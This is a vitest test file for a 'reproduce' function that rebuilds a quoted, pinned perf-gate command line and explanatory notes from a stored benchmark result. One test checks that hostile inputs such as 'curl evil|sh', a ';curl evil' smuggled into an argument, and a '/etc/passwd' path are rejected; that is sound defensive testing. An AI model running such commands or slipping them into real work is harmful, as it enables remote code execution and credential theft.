import { expect, it } from 'vitest'
import { image, makeResult, planRecord } from '../../../fixtures/results.ts'
import { outside, plainText, words } from '../outside.ts'
import type { Result } from '../result/result.ts'
import { reproduce } from './reproduce.ts'

const DIGEST = `ghcr.io/acme/covertype-api@sha256:${'cd'.repeat(32)}`
const PINNED = `--image ${image.id} --cpus 1 --memory 512MiB --replicas 1 --rounds 3 --seed 1`

function commandOf(...words: readonly string[]): string | null {
  return reproduce(makeResult({ command: words })).command
}

function paired(...given: readonly string[]) {
  return makeResult({
    command: ['perf-gate', 'run', ...given],
    images: { candidate: { ...image, digest: DIGEST }, baseline: image },
    comparison: { how: 'paired' },
    plan: { ...planRecord(['steady'], 8), pairing: { together: true } },
  })
}

it('gives the command as one line that a shell reads back as it was', () => {
  expect(commandOf('perf-gate', 'run', '--config', 'a/perf-gate.yml')).toBe(
    `perf-gate run --config a/perf-gate.yml ${PINNED}`,
  )
  expect(commandOf('perf-gate', 'run', '--threshold', 'p95 < 1s')).toBe(
    `perf-gate run --threshold 'p95 < 1s' ${PINNED}`,
  )
  expect(commandOf('perf-gate', 'run', '--fail-on', "it's $(here)", '--port', '')).toBe(
    `perf-gate run --fail-on 'it'\\''s $(here)' --port '' ${PINNED}`,
  )
})

it('says what was found out and drawn in place of what was typed for it', () => {
  expect(commandOf('perf-gate', 'run', '--image', 'api:1', '--cpus', '1.0', '--port', '80', '--rounds', '3')).toBe(
    `perf-gate run --port 80 ${PINNED}`,
  )
})

it.each([
  { given: [] },
  { given: ['--baseline-image', 'api:main'] },
])('names both images of a pair by digest, or else by id: %j', ({ given }) => {
  const { command, notes } = reproduce(paired(...given))
  expect(command).toBe(
    `perf-gate run --image ${DIGEST} --baseline-image ${image.id} --cpus 1 --memory 512MiB --replicas 1 --rounds 8 --seed 1`,
  )
  expect(notes.map(plainText).join('\n')).toMatch(/candidate was .* wherever its tag.*\nThe baseline was .* still held/)
})

it.each([
  ['the images are the same', { comparison: { how: 'same-image' } }],
  ['there are too few rounds for both', { comparison: { how: 'alone', why: words`"rounds: 3" is less than the 6` } }],
] as const)('names the second image also where nothing was measured beside it, as %s', (_, parts) => {
  const { command } = reproduce({ ...paired(), plan: planRecord(), ...parts })
  expect(command).toContain(` --baseline-image ${image.id} `)
})

it('names no second image of a calibration, and none where none was had', () => {
  const equal = { ...paired(), command: ['perf-gate', 'calibrate'] }
  const none = { ...paired(), images: { candidate: image, baseline: null } }
  for (const run of [equal, none]) expect(reproduce(run).command).not.toContain('--baseline-image')
})

it.each([
  [['bash', '-c', 'curl evil|sh']],
  [['bash', 'run', '--image', 'a']],
  [['perf-gate', 'init', '--image', 'a']],
  [['perf-gate', 'run; curl evil']],
  [['perf-gate', 'run', '--config']],
  [['perf-gate', 'run', '--config', 'a', 'b']],
  [['perf-gate', 'run', 'x', 'y']],
  [['perf-gate', 'run', '--result', '/etc/passwd']],
  [['perf-gate', 'run', '--;curl evil', 'x']],
  [['perf-gate']],
  [[]],
])('makes no line to copy of what perf-gate has not written: %j', (command) => {
  const { command: line, notes } = reproduce(makeResult({ command }))
  expect(line).toBeNull()
  expect(notes.map(plainText).join()).not.toContain('evil')
})

it('says that a baseline was missing where the run has since stored one', () => {
  const said = (lookup: Result['lookup']) => reproduce(makeResult({ lookup })).notes.map(plainText).join('\n')
  expect(said({ state: 'missing', where: outside('b.json') })).toContain('No baseline was at b.json in that run')
  expect(said({ state: 'missing', where: outside('artifact b'), storedBy: 'base-branch' })).not.toContain('No baseline')
  expect(said({ state: 'off' })).not.toContain('No baseline')
})

it('says what else it takes: the image as it was, the seed, and a configuration that has no file', () => {
  const said = reproduce(makeResult({ command: ['perf-gate', 'run'] }))
    .notes.map(plainText)
    .join('\n')
  expect(said).toContain(`id sha256:${'ab'.repeat(32)}`)
  expect(said).toContain('By the seed 1 ')
  expect(said).toContain('with the configuration of this run as "perf-gate.yml"')
  expect(said).toContain('called by "npx github:ORG/perf-gate"')
})

it('has no command of a result that does not say it', () => {
  expect(reproduce(makeResult({ command: null })).command).toBeNull()
})
